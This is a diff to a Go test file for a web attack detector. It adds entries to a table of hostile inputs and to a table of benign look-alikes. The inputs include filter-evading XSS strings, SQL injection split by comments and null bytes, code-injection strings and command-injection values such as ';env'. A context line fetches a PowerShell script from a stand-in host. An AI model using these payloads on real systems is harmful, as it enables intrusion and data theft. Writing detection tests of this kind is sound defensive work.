@@ -122,6 +122,17 @@ var attackCases = []struct {
 	{"sqli", "query:q", `zz"") or (""q""=""q"`},
 	{"sqli", "query:q", "7'; whatever -- -x"},
 	{"cmdi", "query:cmd", ";iwr -UseBasicParsing https://evil.tld/a.ps1"},
+	{"xss", "body:json:url", "jav&#13ascript:alert(7)"},
+	{"xss", "body:json:url", "j\ta\tv\ta\ts\tc\tr\ti\tp\tt:alert(1)"},
+	{"xss", "body:text", `\xbcscript\xbealert(\xa2hi\xa2)\xbc/script\xbe`},
+	{"xss", "query:q", `res://c:\\program files\\acme\\acme.dll/#2/#210`},
+	{"code_injection", "query:q", "' || this.version || '1'=='1"},
+	{"code_injection", "query:q", "function(){ return this.userid}"},
+	{"sqli", "query:id", "1 uni/**/on sel/**/ect password fr/**/om users"},
+	{"sqli", "query:id", "1' un\x00ion sel\x00ect 1,2-- -"},
+	{"cmdi", "header:X-Forwarded-For", ";env"},
+	{"cmdi", "query:cmd", "| ps"},
+	{"code_injection", "query:q", "(sy.(st).em)('uname');"},
 }
 
 // hardBenign are inputs that look like attacks to keyword matchers but are ordinary.
@@ -345,6 +356,15 @@ var hardBenign = []struct{ where, in string }{
 	{"query:q", "print 3dunions, selected 4funion"},
 	{"query:q", `he said "yes"; great -- superb`},
 	{"query:q", "iwr is the PowerShell alias, see https://learn.example/iwr"},
+	{"body:text", "line one ends with java\nscript is on the next line"},
+	{"body:text", "see the sandwich/* a comment */es list\r\nSelect a size"},
+	{"query:q", "foo\x00bar and more"},
+	{"body:text", "\\xe9t\\xe9 is how Latin-1 bytes appear in a hex dump"},
+	{"query:q", "the IE res:// scheme, as in res://ieframe/ pages"},
+	{"body:json:code", "const v = opts.version || this.version;"},
+	{"body:json:code", "return (a.b).c(x)"},
+	{"query:q", "a; b; c"},
+	{"query:q", "Tom & Jerry; set of 3"},
 }
 
 func TestDetectAttacks(t *testing.T) {
